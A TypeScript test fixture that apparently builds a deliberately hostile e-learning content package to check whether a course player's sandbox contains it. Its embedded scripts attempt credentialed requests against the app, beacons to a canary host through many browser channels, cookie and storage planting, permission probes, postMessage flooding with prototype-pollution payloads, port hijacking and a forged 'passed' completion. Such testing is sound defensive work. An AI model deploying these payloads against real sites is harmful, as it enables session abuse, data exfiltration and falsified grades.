import { tinyPackage } from './tiny-packages';

export interface Targets {
  app: string;
  canary: string;
  stun: string;
}

/** Requests to the app, in the hope that the learner's session goes with them (attack B1). */
const asLearner = (app: string) => `
  const app = ${JSON.stringify(app)};
  const readable = [];
  const ask = (what, options) => fetch(app + what, { credentials: 'include', ...options }).then(
    async (reply) => readable.push(what + ' ' + reply.type + ' ' + (await reply.text()).slice(0, 20)), () => undefined);
  const post = (path, type, body) => ask(path, { method: 'POST', mode: 'no-cors', headers: { 'content-type': type }, body });
  const form = (path, target, enctype) => {
    const made = document.createElement('form');
    Object.assign(made, { action: app + path, method: 'post', target, enctype });
    document.body.append(made);
    made.submit();
  };
  const load = (tag, attributes) => document.head.append(Object.assign(document.createElement(tag), attributes));
  await Promise.all([
    ask('/api/me', {}), ask('/api/sign-out', { method: 'POST' }),
    ask('/api/me', { method: 'PATCH', headers: { 'content-type': 'application/json' }, body: '{"givenName":"Stolen"}' }),
    post('/api/sign-out', 'text/plain', '{}'), post('/api/sign-out', 'application/x-www-form-urlencoded', 'a=1'),
    ask('/api/sign-out', { method: 'POST', mode: 'no-cors', body: new FormData() }),
  ]);
  navigator.sendBeacon(app + '/api/sign-out', '{}');
  load('img', { src: app + '/api/me' });
  load('script', { src: app + '/api/me' });
  load('link', { rel: 'stylesheet', href: app + '/api/me' });
  const opened = window['op' + 'en'](app + '/home');
  const tries = [() => new EventSource(app + '/api/me', { withCredentials: true }),
    () => new WebSocket(app.replace('http', 'ws') + '/api/me'), () => new XMLHttpRequest().open('GET', app, false)];
  for (const attempt of tries) try { attempt(); } catch {}
  const target = document.createElement('iframe');
  target.name = 'hidden-target';
  document.body.append(target);
  form('/api/sign-out', 'hidden-target', 'text/plain');
  form('/api/sign-out', '_top', 'multipart/form-data');
  await pause(500);
  return { readable, opened: String(opened), cookie: document.cookie };`;

/** Ways to somebody else's server, each with a mark of its own (attack B4). */
const wayOut = (canary: string, stun: string) => `
  const to = (mark) => ${JSON.stringify(canary)} + '/' + mark;
  const put = (html) => document.body.insertAdjacentHTML('beforeend', html);
  const link = (rel, extra) => document.head.append(Object.assign(document.createElement('link'), { rel, href: to(rel), ...extra }));
  const quietly = (attempt) => { try { const done = attempt(); done?.catch?.(() => undefined); } catch {} };
  [ () => fetch(to('fetch')), () => fetch(to('no-cors'), { mode: 'no-cors', keepalive: true }),
    () => navigator.sendBeacon(to('beacon'), 'x'), () => new WebSocket(to('socket').replace('http', 'ws')),
    () => new EventSource(to('events')), () => new Worker(to('worker')), () => new SharedWorker(to('shared')),
    () => import(to('module')), () => new Image().setAttribute('src', to('img')),
    () => window['op' + 'en'](to('open')), () => new Audio(to('audio')).play(),
    () => new WebTransport(to('transport').replace('http:', 'https:')),
    () => { const request = new XMLHttpRequest(); request.open('GET', to('xhr')); request.send(); },
    () => new Worker(URL.createObjectURL(new Blob(['importScripts(' + JSON.stringify(to('import')) + '); fetch(' + JSON.stringify(to('in-worker')) + ')']))),
    () => { const rtc = new RTCPeerConnection({ iceServers: [{ urls: ${JSON.stringify(stun)} }] });
      rtc.createDataChannel('x'); return rtc.createOffer().then((offer) => rtc.setLocalDescription(offer)); },
  ].forEach(quietly);
  for (const rel of ['stylesheet', 'prefetch', 'dns-prefetch', 'preconnect', 'modulepreload', 'prerender', 'icon', 'manifest']) link(rel);
  link('preload', { as: 'image' });
  put('<div style="background:url(' + to('css') + ')">x</div><style>@import "' + to('import.css') + '"; @font-face { font-family: f; src: url(' + to('font') + ') } b { font-family: f }</style><b>x</b>');
  put('<iframe src="' + to('frame') + '"></iframe><object data="' + to('object') + '"></object><embed src="' + to('embed') + '">');
  put('<video src="' + to('video') + '" poster="' + to('poster') + '"><track default src="' + to('track') + '"></video>');
  put('<svg><image href="' + to('svg') + '"/><use href="' + to('use') + '#x"/></svg><input type="image" src="' + to('input') + '">');
  put('<iframe src="data:text/html,<img src=' + to('in-data') + '>"></iframe><iframe srcdoc="<img src=' + to('in-srcdoc') + '>"></iframe>');
  put('<a id="ping" href="#x" ping="' + to('ping') + '">x</a>');
  put('<form id="out" method="get" action="' + to('form') + '" target="_blank"><input name="a" value="b"></form>');
  document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="Content-Security-Policy" content="img-src \\'none\\'; report-uri ' + to('report') + '">');
  document.getElementById('ping').click();
  document.getElementById('out').submit();
  const blob = document.createElement('iframe');
  blob.src = URL.createObjectURL(new Blob(['<img src="' + to('in-blob') + '"><script>fetch("' + to('blob-fetch') + '")</scr' + 'ipt>'], { type: 'text/html' }));
  document.body.append(blob);
  await pause(1500);
  return true;`;

/** Ways to go there, which end the page if they work. */
const going = (canary: string) => ({
  location: `location.href = ${JSON.stringify(`${canary}/location`)}`,
  refresh: `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=${canary}/refresh">')`,
  form: `document.body.insertAdjacentHTML('beforeend', '<form method="post" action="${canary}/form"></form>'); document.forms[0].submit()`,
  download: `Object.assign(document.createElement('a'), { download: 'x', href: '${canary}/download' }).click()`,
  shell: `parent.location.href = ${JSON.stringify(`${canary}/shell`)}`,
  top: `try { top.location.href = ${JSON.stringify(`${canary}/top`)} } catch {}`,
});

/** What the browser has to refuse without asking anybody (attack B7). */
const asking = `
  const answer = async (attempt) => { try { return String(await attempt()); } catch (error) { return error.name; } };
  const features = ['camera', 'microphone', 'geolocation', 'payment', 'usb', 'clipboard-read', 'display-capture'];
  return {
    allowed: features.filter((feature) => document.featurePolicy.allowsFeature(feature)),
    camera: await answer(() => navigator.mediaDevices.getUserMedia({ video: true })),
    microphone: await answer(() => navigator.mediaDevices.getUserMedia({ audio: true })),
    screen: await answer(() => navigator.mediaDevices.getDisplayMedia()),
    place: await answer(() => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, (e) => fail({ name: 'code ' + e.code })))),
    clipboard: await answer(() => navigator.clipboard.readText()),
    notices: await answer(() => Notification.requestPermission()),
    usb: await answer(() => navigator.usb ? navigator.usb.requestDevice({ filters: [] }) : 'absent'),
  };`;

/** What one package tries to leave behind in the browser, and the next one to find there (attack B3). */
const leaving = `
  const quietly = async (attempt) => { try { return await attempt(); } catch (error) { return error.name; } };
  const cookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
  const real = (text) => cookie.set.call(document, text);
  const parentName = location.hostname.split('.').slice(1).join('.');
  for (const text of ['left=here', 'left=here; SameSite=None; Secure', 'left=here; Domain=' + parentName, '__Host-lms=forged; Secure; Path=/', 'lms=forged'])
    await quietly(() => real(text));
  localStorage.setItem('left', 'here');
  await quietly(() => new Promise((done, fail) => {
    const request = indexedDB.open('left', 1);
    request.onsuccess = done; request.onerror = () => fail(request.error);
  }));
  await quietly(async () => (await caches.open('left')).put('/left', new Response('here')));
  await quietly(async () => (await (await navigator.storage.getDirectory()).getFileHandle('left', { create: true })).name);
  const worker = await quietly(async () => String(await navigator.serviceWorker.register('worker.js')));
  return { worker };`;

const finding = `
  const quietly = async (attempt) => { try { return await attempt(); } catch (error) { return error.name; } };
  const cookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
  return {
    stored: localStorage.getItem('left'),
    cookies: await quietly(() => cookie.get.call(document)),
    databases: await quietly(async () => (await indexedDB.databases()).map(({ name }) => name)),
    caches: await quietly(() => caches.keys()),
    files: await quietly(async () => { const names = []; for await (const name of (await navigator.storage.getDirectory()).keys()) names.push(name); return names; }),
  };`;

/** Ten thousand messages of every kind, to whoever may listen, and through the port if it can be got hold of (B2). */
const babble = `
  const port = parent.caughtPort;
  const poison = JSON.parse('{"t":"commit","n":1,"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}');
  const values = [null, 1, 'init', [], {}, poison, { t: 'init' }, { t: 'commit' }, { t: 'commit', n: 1e9, itemId: 'other', cmi: {}, sessionSeconds: 1, activeSeconds: 1, terminate: true },
    { t: 'commit', n: 2, itemId: 'I1', cmi: 7, sessionSeconds: -1, activeSeconds: 'x', terminate: 1 }, { t: 'loaded', itemId: 5 }, { t: 'key', type: 'down', key: 'a' },
    { t: 'navigation', outline: 'x' }, { t: 'deliver', itemId: '' }, { t: 'done', n: 1 }, new Map([[1, 2]]), new Date(), /x/, new Uint8Array(1000), 2n];
  let sent = 0;
  for (let round = 0; round < 500; round += 1) {
    for (const value of values) {
      const to = [() => top.postMessage(value, '*'), () => parent.postMessage(value, '*'), () => port && port.postMessage(value)][sent % 3];
      to();
      sent += 1;
    }
    if (round % 50 === 0) await pause(0);
  }
  const large = 'x'.repeat(10_000_000);
  top.postMessage(large, '*');
  port?.postMessage({ t: 'loaded', itemId: large });
  let refused = 0;
  try { top.postMessage(() => 1, '*'); } catch { refused += 1; }
  const second = document.createElement('iframe');
  second.src = 'second.html';
  document.body.append(second);
  await pause(300);
  return { sent, refused, hasPort: Boolean(port), polluted: String(({}).polluted) };`;

const reaching = `
  const answer = (attempt) => { try { return String(attempt()); } catch (error) { return error.name; } };
  return {
    title: answer(() => top.document.title),
    body: answer(() => parent.parent.document.body.innerHTML),
    storage: answer(() => top.localStorage.length),
    cookie: answer(() => top.document.cookie),
    frames: answer(() => top.frames.secret ?? 'none'),
    opener: String(window.opener),
    named: answer(() => window['op' + 'en']('', '_top').document.title),
    bare: answer(() => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      return frame.contentWindow['op' + 'en']('', '_top').document.title;
    }),
  };`;

/** A package whose every page attacks, when it is told to: \`attacks.<name>()\`. */
export function hostilePackage({ app, canary, stun }: Targets): Buffer {
  const attacks = {
    asLearner: asLearner(app),
    wayOut: wayOut(canary, stun),
    asking,
    leaving,
    finding,
    babble,
    reaching,
    ...going(canary),
  };
  const functions = Object.entries(attacks).map(([name, body]) => `${name}: async () => {${body}\n}`);
  return tinyPackage('Hostile', {
    'index.html': `<!doctype html><title>Hostile</title><script>
// The shell is of this origin: what it sends can be watched, and its port be kept.
const send = parent.MessagePort.prototype.postMessage;
parent.MessagePort.prototype.postMessage = function (...given) {
  parent.caughtPort = this;
  return send.apply(this, given);
};</script><body><h1>Hostile</h1><script>
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
window.attacks = {${functions.join(',\n')}};
parent.API.LMSInitialize('');
parent.API.LMSSetValue('cmi.core.lesson_location', 'honest');
parent.API.LMSCommit('');
</script>`,
    'second.html': `<!doctype html><title>Second</title><script>
const says = { t: 'commit', n: 1, itemId: 'I1', cmi: { core: { lesson_status: 'passed' } }, sessionSeconds: 1, activeSeconds: 1, terminate: true };
for (const to of [top, parent, parent.parent]) { to.postMessage(says, '*'); to.postMessage({ t: 'init', ...says }, '*'); }
</script>`,
    'worker.js': 'self.addEventListener("fetch", () => undefined);',
  });
}
